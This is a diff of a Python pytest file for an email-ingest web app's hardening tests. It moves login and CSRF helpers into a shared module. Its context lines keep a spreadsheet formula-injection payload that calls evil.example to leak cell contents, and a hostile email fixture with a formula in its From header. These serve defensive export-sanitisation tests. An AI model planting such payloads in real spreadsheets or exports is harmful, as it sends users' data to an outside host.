@@ -7,25 +7,21 @@ from __future__ import annotations
 import contextlib
 import csv
 import io
-import re
 import socket
 import time
-from datetime import datetime
-from zoneinfo import ZoneInfo
 
 import openpyxl
 import pytest
 from servers import Console
 from starlette.testclient import TestClient
+from webclient import AT, client, csrf_of, login, sample_console
+from webclient import run_cli as _cli
 
 from ingestd.cells import csv_value
-from ingestd.cli.main import main
 from ingestd.config import load_settings
-from ingestd.store.accounts import Accounts, address_delay
+from ingestd.store.accounts import address_delay
 from ingestd.web.app import create_app
 
-AT = datetime(2019, 6, 28, 9, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
-PASSWORD = "mat-khau-du-dai-1"
 FORMULA_SUBJECT = '=HYPERLINK("http://evil.example/?leak="&A2, "Bấm vào đây")'
 HOSTILE = f"""\
 From: =2+5@gmail.com
@@ -39,46 +35,15 @@ Content-Type: text/plain; charset=utf-8
 """
 
 
-def _cli(project, *args: str) -> tuple[int, str, str]:
-    out, err = io.StringIO(), io.StringIO()
-    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
-        code = main(["--config", str(project.config), *args])
-    return code, out.getvalue(), err.getvalue()
-
-
 @pytest.fixture(scope="module")
 def console(tmp_path_factory, sample_dir):
-    from conftest import Project
-
-    project = Project(tmp_path_factory.mktemp("hardening"))
-    project.load_sample(_cli, sample_dir)
+    project = sample_console(tmp_path_factory.mktemp("hardening"), sample_dir,
+                             (("viewer", "viewer"), ("clerk", "clerk"), ("admin", "admin"),
+                              ("another", "viewer")))
     eml = project.root / "hostile.eml"
     eml.write_text(HOSTILE, encoding="utf-8")
     assert _cli(project, "import", str(eml))[0] == 0
-    svc = project.services()
-    accounts = Accounts(svc.store)
-    for name, role in (("viewer", "viewer"), ("clerk", "clerk"), ("admin", "admin"),
-                       ("another", "viewer")):
-        accounts.add(name, role, PASSWORD)
-    svc.close()
     return project
-
-
-def client(project, user: str | None = None, **kw) -> TestClient:
-    c = TestClient(create_app(load_settings(project.config), AT), **kw)
-    if user:
-        assert login(c, user).status_code == 303
-    return c
-
-
-def csrf_of(html: str) -> str:
-    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)
-
-
-def login(c: TestClient, user: str, password: str = PASSWORD, headers: dict | None = None):
-    token = csrf_of(c.get("/login").text)
-    return c.post("/login", data={"username": user, "password": password, "csrf_token": token,
-                                  "next": "/"}, headers=headers or {}, follow_redirects=False)
 
 
 @contextlib.contextmanager
